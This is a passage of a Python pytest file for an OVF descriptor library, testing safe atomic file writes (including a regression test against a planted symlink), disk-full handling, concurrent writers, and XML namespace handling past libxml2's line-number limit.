    def library(target: Path) -> None:
        write(parse(descriptor), target)

    def build(target: Path) -> None:
        run = _run_cli(
            ["build", str(ROOT / "examples" / "appliance.yaml"), "-o", str(target)], tmp_path
        )
        assert run.returncode == 0, run.stderr

    def env(target: Path) -> None:
        run = _run_cli(["env", str(descriptor), "-o", str(target)], tmp_path)
        assert run.returncode == 0, run.stderr

    return {"write()": library, "build -o": build, "env -o": env}


@pytest.mark.parametrize("how", ["write()", "build -o", "env -o"])
def test_planted_symlink_at_the_old_temporary_name_is_not_followed(
    tmp_path: Path, how: str
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    target = out / "result.ovf"
    (out / f".{target.name}.tmp").symlink_to(victim)  # where the old code wrote first
    _writers(tmp_path)[how](target)
    assert victim.read_text() == "precious\n"
    assert target.read_bytes().lstrip().startswith(b"<")
    assert sorted(p.name for p in out.iterdir()) == [".result.ovf.tmp", "result.ovf"]


@pytest.mark.parametrize("how", ["write()", "env -o"])
def test_failure_while_writing_leaves_the_old_file_and_no_temporary(
    tmp_path: Path, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    out = tmp_path / "out"
    out.mkdir()
    target = out / "result.xml"
    target.write_text("the old file\n")
    if how == "write()":

        def full(fd: int) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr("os.fsync", full)  # the data did not fit on the disk
        with pytest.raises(OSError, match="No space left"):
            _writers(tmp_path)[how](target)
    else:  # a real process whose writes fail past 64 bytes, as on a full disk
        import resource
        import signal

        def small_disk() -> None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (64, 64))

        descriptor = tmp_path / "in.ovf"
        descriptor.write_bytes(_with_properties([("a", "1")]))
        run = _run_cli(["env", str(descriptor), "-o", str(target)], tmp_path, preexec_fn=small_disk)
        assert run.returncode == 2
        assert "File too large" in run.stderr and "Traceback" not in run.stderr
    assert target.read_text() == "the old file\n"
    assert [p.name for p in out.iterdir()] == ["result.xml"]


def test_concurrent_writers_in_threads(tmp_path: Path) -> None:
    """Concurrent write() to one target raised FileNotFoundError (their shared .NAME.tmp was
    renamed away by the other writer); the result mixed both."""
    import threading

    docs = [parse(_with_properties([("k", str(i) * 2000)])) for i in range(6)]
    texts = {serialize(d) for d in docs}
    folder = tmp_path / "w"
    folder.mkdir()
    target = folder / "shared.ovf"
    failures: list[BaseException] = []

    def work(doc: OvfDocument) -> None:
        try:
            for _ in range(15):
                write(doc, target)
        except BaseException as exc:
            failures.append(exc)

    threads = [threading.Thread(target=work, args=(d,)) for d in docs]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert failures == []
    assert target.read_bytes() in texts
    assert [p.name for p in folder.iterdir()] == ["shared.ovf"]


def test_concurrent_writers_in_processes(tmp_path: Path) -> None:
    import subprocess
    import sys

    folder = tmp_path / "w"
    folder.mkdir()
    target = folder / "shared.ovf"
    sources = []
    for i in range(4):
        source = tmp_path / f"in{i}.ovf"
        source.write_bytes(_with_properties([("k", str(i) * 5000)]))
        sources.append(source)
    program = (
        "import sys, ovfmodel\n"
        "doc = ovfmodel.parse(sys.argv[1])\n"
        "for _ in range(30):\n"
        "    ovfmodel.write(doc, sys.argv[2])\n"
    )
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", program, str(s), str(target)], stderr=subprocess.PIPE
        )
        for s in sources
    ]
    errors = [p.communicate(timeout=120)[1] for p in procs]
    assert [p.returncode for p in procs] == [0, 0, 0, 0], errors
    assert target.read_bytes() in {serialize(parse(s)) for s in sources}
    assert [p.name for p in folder.iterdir()] == ["shared.ovf"]


def test_declarations_past_line_65535_keep_their_prefixes_and_order() -> None:
    """libxml2 gives every element past line 65,535 that line number: the binder took them for
    elements without declarations and wrote `urnv:a xmlns:urnv=...` for `v:a xmlns:v=...`."""
    vendor = '<v:a b="1" xmlns:v="urn:v"><w:c xmlns:w="urn:w"/></v:a>'
    data = envelope("<!-- x -->\n" * 70_000 + vendor + vendor)
    out = serialize(parse(data))
    assert out.endswith((vendor + vendor + "</Envelope>\n").encode())
    assert b"urnv" not in out


def test_word_search_by_its_rarest_byte_agrees_with_in() -> None:
    """starttags.contains (what may_spell and the writer search with) finds what `in` finds, in
    bytes and text, also full of the character it searches for first, and where the word
    straddles the sample's end."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from ovfmodel.starttags import contains

    @settings(deadline=None, max_examples=150)
    @given(
        st.binary(min_size=2, max_size=5).filter(lambda w: len(set(w)) > 1),
        st.integers(0, 2),
        st.lists(st.integers(0, 200_000), max_size=80),
        st.integers(1 << 16, 100_000),
    )
    def agree(word: bytes, fill: int, places: list[int], size: int) -> None:
        data = bytearray(word[fill % len(word) : fill % len(word) + 1] * size)
        for place in places:  # near misses, and maybe the word where the last one ends
            at = place % (size - len(word))
            data[at : at + len(word) - 1] = word[:-1]
        data[size - 1 - (places[-1] % 3 if places else 0)] = word[-1]
        assert len(data) == size
        assert contains(bytes(data), word) == (word in data)
        text, letters = data.decode("latin-1"), word.decode("latin-1")  # text too
        assert contains(text, letters) == (word in data)

    agree()
    padding = b"<a>" * 30_000
    for at in (0, (1 << 14) - 3, 1 << 16, len(padding)):
        data = padding[:at] + b"XInclude" + padding[at:]
        assert contains(data, b"XInclude") and not contains(padding, b"XInclude")
    # every byte of the word everywhere: past the hits it checks itself, `in` takes over
    misses = b"XInclud e " * 20_000
    assert contains(misses + b"XInclude", b"XInclude") and not contains(misses, b"XInclude")


def test_past_line_65535_elements_are_not_asked_for_declarations_none_can_make() -> None:
    """With every declaring start tag before line 65,535, an element libxml2 numbers 65,535 (all
    past it) declares nothing: its leaves keep the compact SourceInfo and no namespace lookups
    (30 us an item read), and still round-trip and locate."""
    sys.path.insert(0, str(Path(__file__).parent.parent / "tools"))
    from bench import large_envelope

    from ovfmodel import model
    from ovfmodel.binding import INFO_ATTR, source_info

    data = large_envelope(12_000)  # ~84,000 lines
    doc = parse(data)
    (section,) = model.hardware_sections(model.virtual_systems(doc)[0])
    leaf = section.item[-1].element_name
    assert leaf.__dict__[INFO_ATTR].__class__ is tuple
    line, column = doc.location(leaf)
    assert line is not None and column is not None and line > 80_000
    assert data.split(b"\n")[line - 1][column - 1 :].startswith(b"<rasd:ElementName>")
    assert source_info(leaf) is not None and source_info(leaf).nsdecl is None  # type: ignore[union-attr]
    assert serialize(doc) == data
